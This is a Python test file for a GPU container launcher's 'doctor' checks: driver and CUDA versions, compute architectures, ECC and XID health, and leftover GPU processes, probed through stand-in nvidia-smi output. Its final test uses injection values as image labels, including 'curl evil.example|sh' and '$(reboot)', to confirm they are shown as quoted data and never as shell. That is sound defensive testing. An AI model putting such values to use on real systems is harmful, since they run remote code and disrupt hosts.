"""doctor's GPU rows (driver, archs, gpu health, gpu models) from what the real probe.sh prints when a stand-in
nvidia-smi of tests/data/nvidia-smi/ is on its PATH (no SSH, no engine: the probe runs in a local sh)."""

import json
import os
import re
import shlex
import subprocess

import pytest

from dockerlaunch.backends.docker import script
from dockerlaunch.backends.docker.doctor.judge import judge_gpu_facts
from dockerlaunch.backends.docker.doctor.report import ERROR, FAIL, PASS, WARN, Report
from dockerlaunch.backends.docker.probe import parse_probe
from dockerlaunch.gpu import smi as smilib
from dockerlaunch.gpu.host import Gpu, GpuHost, Holder, Xid
from dockerlaunch.gpu.needs import ImageNeeds
from tests import gpu_standin
from tests.cli import paste
from tests.unit.backends.docker.test_doctor_judge import H0, H1, cfg, host, run
from tests.unit.backends.docker.test_probe_gpu_words import NO_PID, fake_proc

# the recommended image's labels (docker image inspect), with the compiled packages it holds code for
LABELS = {"ai.dockerlaunch.pin.cuda": "13.0", "ai.dockerlaunch.cuda-archs": "9.0",
          "ai.dockerlaunch.stack": "swift4.6-mcore0.19-cu13-py313",
          "ai.dockerlaunch.compiled": "transformer-engine-torch,apex,flash-attn"}


def probed(tmp_path, case: str, pid: int | None = None, proc=None):
    """`pid`: the process the case's compute-apps line names; `proc`: the /proc the probe reads it in."""
    gpu_standin.install(tmp_path / "bin", case, pid)
    env = {**os.environ, "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}"}
    if proc is not None:
        env["DL_PROBE_PROC"] = str(proc)
    r = subprocess.run(["sh", "-c", script("probe.sh"), "sh", "127.0.0.1"], capture_output=True, text=True,
                       env=env, timeout=60)
    assert r.returncode == 0, r.stderr
    return parse_probe(r.stdout)


def rows(smi, labels=LABELS, record=None, env=None, window=None) -> dict[str, tuple[str, str]]:
    report = Report()
    judge_gpu_facts(report, "h1", smi, ImageNeeds.of_image(labels, env, ImageNeeds.from_record(record)), window)
    return {c.check: (c.verdict, c.detail) for c in report.checks}


def test_a_healthy_h100_host_passes_every_gpu_row(tmp_path):
    p = probed(tmp_path, "h100-healthy")
    smi = p.gpu_host
    assert p.gpu_count == 2
    assert (smi.driver, smi.cuda) == ("580.95.05", "13.0")
    assert [(g.index, g.name, g.compute_cap, g.persistence, g.mig, g.ecc_volatile, g.remap_pending, g.fabric_state,
             g.fabric_status) for g in smi.gpus] == [
        (0, "NVIDIA H100 80GB HBM3", "9.0", "Enabled", "Disabled", 0, False, "Completed", "Success"),
        (1, "NVIDIA H100 80GB HBM3", "9.0", "Enabled", "Disabled", 0, False, "Completed", "Success")]
    assert smi.holders == () and smi.errors == ()
    # a driver that knows only the written case's columns: the rest is unknown, asked without, never an error
    assert set(smi.unknown_fields) == set(smilib.QUERY) - set(gpu_standin.QUERY_GPU)
    got = rows(smi)
    assert {k: v[0] for k, v in got.items()} == {"driver": PASS, "archs": PASS, "gpu health": PASS}, got
    assert got["driver"][1] == "driver 580.95.05 (CUDA 13.0) runs the image's CUDA 13.0"


@pytest.mark.hint("needs.stacks")
def test_a_driver_too_old_for_the_images_cuda_is_the_one_failure(tmp_path):
    got = rows(probed(tmp_path, "driver-570").gpu_host)
    assert [k for k, v in got.items() if v[0] != PASS] == ["driver"]
    assert got["driver"] == (FAIL, "driver 570.86.15 runs CUDA <= 12.8; the image needs 13.0 (R580+): upgrade the "
                                   "driver, or build a stack of CUDA <= 12.8 (dockerlaunch stacks list; this image "
                                   "is swift4.6-mcore0.19-cu13-py313)")
    # the pointer, run as printed: it lists the stacks with their CUDA, the image's own among them
    printed = re.search(r"\((dockerlaunch [^;]+);", got["driver"][1]).group(1)
    listed = paste(printed, tmp_path)
    assert listed.returncode == 0 and "swift4.6-mcore0.19-cu13-py313" in listed.stdout, listed.stdout
    assert re.search(r":cu12[0-8]-", listed.stdout), listed.stdout  # a stack of CUDA <= 12.8 among them


def test_a_gpu_the_image_has_no_code_for_names_the_packages_and_the_fix(tmp_path):
    got = rows(probed(tmp_path, "a100").gpu_host)
    assert [k for k, v in got.items() if v[0] != PASS] == ["archs"]
    assert got["archs"] == (FAIL, "GPUs 0,1 NVIDIA A100-SXM4-80GB (8.0, sm_80): the image's transformer-engine-torch, "
                                  "apex, flash-attn hold code only for 9.0 (ai.dockerlaunch.cuda-archs): no kernel "
                                  "would run there; dockerlaunch build --stack swift4.6-mcore0.19-cu13-py313 "
                                  "--cuda-archs '8.0;9.0'")
    # an image built with PTX for 8.0 runs there (the driver compiles it), and so does one with 8.0 cubins
    ptx = {**LABELS, "ai.dockerlaunch.cuda-archs": "8.0+PTX"}
    assert rows(probed(tmp_path, "a100").gpu_host, ptx)["archs"][0] == PASS
    # an image from before the `compiled` label: its pins say what was compiled
    older = {k: v for k, v in LABELS.items() if k != "ai.dockerlaunch.compiled"}
    older.update({"ai.dockerlaunch.pin.transformer_engine": "2.16.1", "ai.dockerlaunch.pin.flash_attn": "2.8.3"})
    assert "the image's transformer-engine-torch, flash-attn hold" in rows(probed(tmp_path, "a100").gpu_host, older)[
        "archs"][1]


def test_a_gpu_held_by_a_leftover_process_names_gpu_pid_and_command(tmp_path):
    """The name is the kernel's (/proc/PID/comm), read by the probe: here a /proc written for a pid no real process
    can have (above PID_MAX_LIMIT), so no process of this machine answers for it."""
    pid = NO_PID
    proc = fake_proc(tmp_path / "proc", {pid: ("python3", 1, 1000), 1: ("systemd", 0, 0)})
    got = rows(probed(tmp_path, "leftover", pid, proc).gpu_host)
    assert [k for k, v in got.items() if v[0] != PASS] == ["gpu health"]
    assert got["gpu health"] == (FAIL, f"GPU 0 holds 71234 MiB of pid {pid} (python3), not this job's: a "
                                       f"leftover of another job? stop it (kill {pid}) or give the job other GPUs")


def test_nvidia_smi_that_fails_is_an_error_naming_the_command_never_a_pass(tmp_path):
    p = probed(tmp_path, "nvml-mismatch")
    assert p.gpu_host.driver is None and p.gpu_host.gpus == ()
    got = rows(p.gpu_host)
    assert got["driver"][0] == ERROR
    assert "nvidia-smi --query-gpu=index,pci.bus_id,name," in got["driver"][1]
    assert "Failed to initialize NVML: Driver/library version mismatch" in got["driver"][1]
    assert got["gpu health"][0] == ERROR and "nvidia-smi --query-compute-apps" in got["gpu health"][1]
    assert got["archs"][0] == ERROR  # no GPU was listed: not checked, never a missing row


def _gpu(**kw) -> Gpu:
    base = dict(index=0, bus_id="00000000:18:00.0", name="NVIDIA H100 80GB HBM3", compute_cap="9.0",
                memory_used_mib=0, memory_total_mib=81559, persistence="Enabled", mig="Disabled", ecc_volatile=0,
                ecc_aggregate=0, remap_pending=False)
    return Gpu(**{**base, **kw})


@pytest.mark.parametrize("gpu, apps, xids, verdict, words", [
    (_gpu(ecc_volatile=3), (), (), FAIL, "3 uncorrectable ECC errors since the driver loaded"),
    (_gpu(remap_pending=True), (), (), FAIL, "a row remap is pending"),
    (_gpu(fabric_state="In Progress", fabric_status="N/A"), (), (), FAIL, "start the fabric manager"),
    (_gpu(fabric_state="Completed", fabric_status="NVML_ERROR_INSUFFICIENT_RESOURCES"), (), (), FAIL,
     "fabric Completed/NVML_ERROR_INSUFFICIENT_RESOURCES"),
    (_gpu(ecc_aggregate=2), (), (), WARN, "2 uncorrectable ECC errors over its life"),
    (_gpu(persistence="Disabled"), (), (), WARN, "persistence mode off on GPU 0"),
    (_gpu(mig="Enabled"), (), (), WARN, "MIG is on for GPU 0"),
    (_gpu(), (), (Xid(79, "0000:18:00", None), Xid(13, "0000:18:00", 50.0)), WARN, "XID errors since boot"),
    (_gpu(), (), (Xid(79, "0000:18:00", 120.5),), FAIL,
     "GPU 0: XID 79 (GPU has fallen off the bus) x1 since the driver"),
    (_gpu(remap_failure=True), (), (), FAIL, "a row remapping failed"),
    (_gpu(remap_banks_exhausted=2), (), (), FAIL, "2 memory bank(s) have no reserved row left"),
    (_gpu(throttle=0x40 | 0x1), (), (), WARN, "GPU 0: clocks held down (HW thermal slowdown)"),
    (_gpu(throttle=0x1 | 0x4), (), (), PASS, "no memory held"),
    (_gpu(mig="Enabled", memory_used_mib=11125), (Holder("00000000:18:00.0", 21180, "bob", None, "memhog"),), (),
     FAIL, "GPU 0 (MIG) holds 11125 MiB used by pid 21180 (memhog, user bob)"),
    (_gpu(mig="Enabled", memory_used_mib=9000), (), (), WARN, "9000 MiB in use and no compute process listed"),
    # a desktop: graphics processes are never listed by --query-compute-apps, and small compute ones are small
    (_gpu(memory_used_mib=3534), (Holder("0000:18:00.0", 4937, "bob", 160, "python"),), (), PASS, "1 small or MPS"),
    (_gpu(fabric_state="Completed", fabric_status="Success", fabric_health="Unhealthy"), (), (), WARN,
     "fabric Health Unhealthy"),
    # MPS's server (the kernel's name: 15 characters) as root's control daemon starts it, under its client's uid
    (_gpu(), (Holder("00000000:18:00.0", 77, "bob", 30000, "nvidia-cuda-mps", "nvidia-cuda-mps", True),), (), PASS,
     "MPS"),
    (_gpu(), (Holder("00000000:18:00.0", 77, "bob", 30000, "nvidia-cuda-mps", "bash", False),), (), FAIL,
     "pid 77 (nvidia-cuda-mps, user bob)"),
    (_gpu(), (Holder("0000:18:00.0", 77, "bob", 512, "python"),), (), PASS, "no memory held"),
    (_gpu(), (Holder("0000:18:00.0", 77, "bob", 2048, "python"),), (), FAIL, "pid 77 (python, user bob)"),
])
def test_gpu_health_verdicts(gpu, apps, xids, verdict, words):
    smi = GpuHost(driver="580.95.05", cuda="13.0", gpus=(gpu,), holders=apps, xids=xids)
    status, reason = rows(smi)["gpu health"]
    assert status == verdict and words in reason, reason


@pytest.mark.parametrize("gpu, verdict", [(_gpu(), PASS), (_gpu(persistence="Disabled"), WARN),
                                           (_gpu(ecc_volatile=3), FAIL)])
def test_a_login_that_cannot_read_the_kernel_log_is_told_its_xids_went_unseen(gpu, verdict):
    """dmesg_restrict: a non-root login reads no XID; every verdict of the row says so (never `no fatal XID`)."""
    status, reason = rows(GpuHost(driver="580.95.05", cuda="13.0", gpus=(gpu,), xids=None))["gpu health"]
    assert status == verdict and "XIDs not checked: this login cannot read the kernel log" in reason, reason
    assert "no fatal XID" not in reason
    status, reason = rows(GpuHost(driver="580.95.05", cuda="13.0", gpus=(gpu,), xids=()))["gpu health"]
    assert "XIDs not checked" not in reason


def test_an_image_that_does_not_say_what_it_needs_is_not_judged_on_it():
    smi = GpuHost(driver="570.86.15", cuda="12.8", gpus=(_gpu(),))
    got = rows(smi, {})
    assert got["driver"][0] == got["archs"][0] == "SKIP"


def test_xid_lines_and_unsupported_fields_parse():
    kv = {"gpus": ["1"], "smi_gpu": [
        "index, pci.bus_id, name, compute_cap, driver_version, memory.used [MiB], memory.total [MiB], "
        "persistence_mode, mig.mode.current, ecc.errors.uncorrected.volatile.total, "
        "ecc.errors.uncorrected.aggregate.total, remapped_rows.pending",
        "0, 0000:18:00.0, Tesla V100, [N/A], 535.54.03, [N/A], 16384, [Not Supported], [N/A], [N/A], [N/A], [N/A]"],
          "smi_q": ["Driver Version                            : 535.54.03"], "smi_unknown": ["remapped_rows.failure"],
          "xid_readable": ["1"], "xid": ["5.25 0000:18:00 79", "- 0000:3b:00 79", "1200.5 0000:18:00 13"],
          "driver_loaded": ["4.5"], "uptime": ["9000.1"]}
    smi = smilib.parse(kv)
    g = smi.gpus[0]
    assert (g.compute_cap, g.memory_used_mib, g.persistence, g.ecc_volatile, g.remap_pending) == \
        (None, None, None, None, None)
    assert g.arch == "7.0" and g.arch_source == "the model's name"  # NVIDIA's table: V100 is 7.0
    assert smi.driver == "535.54.03" and smi.unknown_fields == ("remapped_rows.failure",)
    assert smi.xids == (Xid(79, "0000:18:00", 5.25), Xid(79, "0000:3b:00", None), Xid(13, "0000:18:00", 1200.5))
    assert (smi.driver_loaded_s, smi.uptime_s) == (4.5, 9000.1)
    assert smilib.parse({"gpus": ["none"]}) is None


def test_the_driver_is_read_once_from_q():
    """The driver's version has one source: -q's `Driver Version` (`KMD Version` on R610+), which the probe asks
    anyway for the CUDA version; the query asks no driver_version, and a column or line of another name is not read."""
    assert "driver_version" not in smilib.QUERY
    rows = ["index, pci.bus_id, name, driver_version", "0, 00000000:18:00.0, Tesla V100, 535.54.03"]
    assert smilib.parse({"smi_gpu": rows}).driver is None
    assert smilib.parse({"smi_gpu": rows, "smi_driver": ["535.54.03"]}).driver is None
    q = ["Driver Version                            : 610.43.02 [Deprecated; see KMD Version]",
         "KMD Version                               : 610.43.02", "CUDA UMD Version                          : 13.2"]
    assert (smilib.parse({"smi_gpu": rows, "smi_q": q}).driver, smilib.parse({"smi_q": q[1:]}).driver) == (
        "610.43.02", "610.43.02")


def test_a_fatal_xid_fails_only_when_newer_than_the_drivers_load_or_inside_the_window():
    gpu = _gpu()
    old = GpuHost("580.95.05", "13.0", (gpu,), xids=(Xid(79, "0000:18:00", 10.0),), driver_loaded_s=100.0,
                  uptime_s=90000.0)
    assert rows(old)["gpu health"][0] == WARN  # before the driver's last load: a reset since
    new = GpuHost("580.95.05", "13.0", (gpu,), xids=(Xid(79, "0000:18:00", 200.0),), driver_loaded_s=100.0,
                  uptime_s=90000.0)
    assert rows(new)["gpu health"][0] == FAIL
    # a window the user sets (diagnostics.xid_window): only what is inside it fails
    assert rows(new, window=3600)["gpu health"][0] == WARN
    assert rows(new, window=90000)["gpu health"][0] == FAIL


def test_an_nvswitch_host_whose_gpus_report_no_fabric_needs_the_fabric_manager():
    a100 = _gpu(name="NVIDIA A100-SXM4-80GB", compute_cap="8.0")
    for fm, verdict in (("active", PASS), ("running", PASS), ("inactive", FAIL), ("failed", FAIL), ("stopped", FAIL),
                        (None, WARN)):
        h = GpuHost("580.95.05", "13.0", (a100,), nvswitches=6, fabric_manager=fm)
        got = rows(h, {})["gpu health"]
        assert got[0] == verdict, (fm, got)
    # no NVSwitch (a PCIe host): nothing to ask
    assert rows(GpuHost("580.95.05", "13.0", (a100,), nvswitches=0), {})["gpu health"][0] == PASS


def test_different_gpu_models_across_hosts_are_a_warning():
    config = cfg(gpus="all")
    a100 = GpuHost("580.95.05", "13.0", (_gpu(name="NVIDIA A100-SXM4-80GB", compute_cap="8.0"),))
    h100 = GpuHost("580.95.05", "13.0", (_gpu(),))
    o0, o1 = host(0), host(1)
    o0.probe = o0.probe.__class__(**{**o0.probe.__dict__, "gpu_host": h100})
    o1.probe = o1.probe.__class__(**{**o1.probe.__dict__, "gpu_host": a100})
    report = run(config, o0, o1)
    row = report.get(H0, "gpu models")
    assert row.verdict == WARN and f"{H1}: NVIDIA A100-SXM4-80GB" in row.detail


@pytest.mark.parametrize("case", gpu_standin.WRITTEN)
def test_every_case_parses_through_the_probe(tmp_path, case):
    """Written or recorded (scripts/record-nvidia-smi writes real/ folders), every case reads as its -L listing says."""
    p = probed(tmp_path, case)
    listed = (gpu_standin.CASES / case / "L.txt").read_text()
    if (gpu_standin.CASES / case / "exit").exists():
        assert p.gpu_host.errors and p.gpu_host.driver is None
    else:
        assert p.gpu_host.driver and len(p.gpu_host.gpus) == listed.count("\nGPU ") + listed.startswith("GPU ")
        assert all(g.compute_cap for g in p.gpu_host.gpus)


@pytest.mark.parametrize("case", [c for c in gpu_standin.WRITTEN if (gpu_standin.CASES / c / "L.txt").exists()])
def test_the_probes_gpu_count_is_the_listings(tmp_path, case):
    """`nvidia-smi -L` is counted by one rule: probe.sh's `gpus=` for its host (read by probe.py alone: GpuHost does
    not read it) and gpu.smi.count_gpus for a probe container's listing (it may have no shell) agree."""
    p = probed(tmp_path, case)
    listed = (gpu_standin.CASES / case / "L.txt").read_text()
    assert p.gpu_count == smilib.count_gpus(listed)
    assert smilib.parse({"gpus": ["none"]}) is None and smilib.parse({"gpus": ["2"]}) is None


def test_the_probe_asks_what_the_parser_reads():
    """probe.sh's SMI_GPU is gpu/smi.py's QUERY, and the written stand-in's columns are among them."""
    line = next(x for x in script("probe.sh").splitlines() if x.startswith("SMI_GPU="))
    asked = tuple(line.removeprefix("SMI_GPU=").strip('"').split())
    assert asked == smilib.QUERY
    # (the recorded 12-field query's driver_version column: the probe reads the driver once, from -q)
    assert set(gpu_standin.QUERY_GPU) - {"driver_version"} <= set(asked)


SCAN = {"image": "someone/train:1", "cuda": "12.8", "cubins": {
    "flash_attn_2_cuda.cpython-312-x86_64-linux-gnu.so": {"elf": ["sm_90"], "ptx": [], "dist": "flash-attn 2.8.3"},
    "torch/lib/libtorch_cuda.so": {"elf": ["sm_80", "sm_90"], "ptx": [], "dist": "torch 2.8.0"},
    "nvidia/cufft/lib/libcufft.so.11": {"elf": ["sm_52"], "ptx": [], "dist": "nvidia-cufft-cu12 11.3.3.83"}}}


def test_an_image_without_labels_is_judged_from_what_verify_recorded_of_its_id(tmp_path):
    a100 = probed(tmp_path, "a100").gpu_host
    report = Report()
    judge_gpu_facts(report, "h1", a100, ImageNeeds.of_image({}, None, ImageNeeds.from_record(SCAN)))
    got = {c.check: (c.verdict, c.detail) for c in report.checks}
    assert got["archs"][0] == FAIL
    assert got["archs"][1].startswith("GPUs of compute capability 8.0: no cubin or PTX in "
                                      "flash_attn_2_cuda.cpython-312-x86_64-linux-gnu.so (flash-attn 2.8.3: sm_90)")
    assert "libtorch_cuda" not in got["archs"][1] and "libcufft" not in got["archs"][1]  # covered; NVIDIA's own
    # the CUDA it needs: its runtime wheel (verify), said as such; a 580 driver runs 12.8
    assert got["driver"] == (PASS, "driver 580.95.05 (CUDA 13.0) runs the image's CUDA 12.8")
    report = Report()
    judge_gpu_facts(report, "h1", probed(tmp_path, "h100-healthy").gpu_host,
                    ImageNeeds.of_image({}, None, ImageNeeds.from_record(SCAN)))
    assert {c.check: c.verdict for c in report.checks}["archs"] == PASS
    # nvidia/cuda bases say their CUDA in the environment
    report = Report()
    judge_gpu_facts(report, "h1", probed(tmp_path, "driver-570").gpu_host,
                    ImageNeeds.of_image({}, ("CUDA_VERSION=13.0.1", "PATH=/x")))
    assert {c.check: c.verdict for c in report.checks}["driver"] == FAIL


def test_the_images_own_driver_labels_are_what_doctor_reads():
    """build writes driver-min and driver-toolkit: doctor judges by them (a table only for images without them)."""
    host = GpuHost("580.95.05", "13.0", (_gpu(),))
    assert rows(host)["driver"][0] == PASS
    stricter = {**LABELS, "ai.dockerlaunch.driver-min": "590.44.01"}
    assert rows(host, stricter)["driver"] == (
        FAIL, "driver 580.95.05 runs CUDA <= 13.0; the image needs 13.0 (R590+): upgrade the driver, or build a stack "
              "of CUDA <= 13.0 (dockerlaunch stacks list; this image is swift4.6-mcore0.19-cu13-py313)")
    newer_toolkit = {**LABELS, "ai.dockerlaunch.driver-toolkit": "585.1"}
    assert rows(host, newer_toolkit)["driver"][0] == WARN


def test_a_vgpu_host_driver_runs_no_cuda_here():
    """`CUDA Version : Not Found` (h100-nvl-vgpu-host-595.71-harvester11133): the hypervisor's driver."""
    kv = {"gpus": ["1"], "smi_q": ["Driver Version                                         : 595.71.03",
                                   "CUDA Version                                           : Not Found"],
          "smi_gpu": ["index, pci.bus_id, name, compute_cap", "0, 00000000:18:00.0, NVIDIA H100 NVL, 9.0"]}
    host = smilib.parse(kv)
    assert host.vgpu_manager and host.cuda is None and host.driver == "595.71.03"
    got = rows(host)
    assert got["driver"][0] == FAIL and "vGPU host" in got["driver"][1]


def test_no_gpu_read_is_an_archs_error_not_a_missing_row():
    got = rows(GpuHost(None, None, errors=("nvidia-smi --query-gpu=...: Failed to initialize NVML",)))
    assert got["archs"][0] == ERROR and got["driver"][0] == ERROR


@pytest.mark.parametrize("label, value, said, absent", [
    ("ai.dockerlaunch.stack", "x; curl evil.example|sh; :", 'its ai.dockerlaunch.stack label, "x; curl evil.example',
     "--stack x"),  # the command says NAME (a placeholder), never the label
    ("ai.dockerlaunch.cuda-archs", "9.0;$(reboot)", 'label, "9.0;$(reboot)", is not an arch list', "--cuda-archs"),
])
def test_an_image_label_that_is_not_a_stack_or_an_arch_list_is_shown_as_data_never_as_a_command(tmp_path, label,
                                                                                               value, said, absent):
    """The archs fix is built from the image's own labels, read on the hosts: a label of another shape would have
    become shell in a pasted `dockerlaunch build --stack ...` (issue 60, item 1)."""
    got = rows(probed(tmp_path, "a100").gpu_host, {**LABELS, label: value})["archs"]
    assert got[0] == FAIL and said in got[1], got
    assert absent not in got[1] and shlex.quote(value) not in got[1], got[1]
    assert json.dumps(value) in got[1], got[1]  # said as JSON data
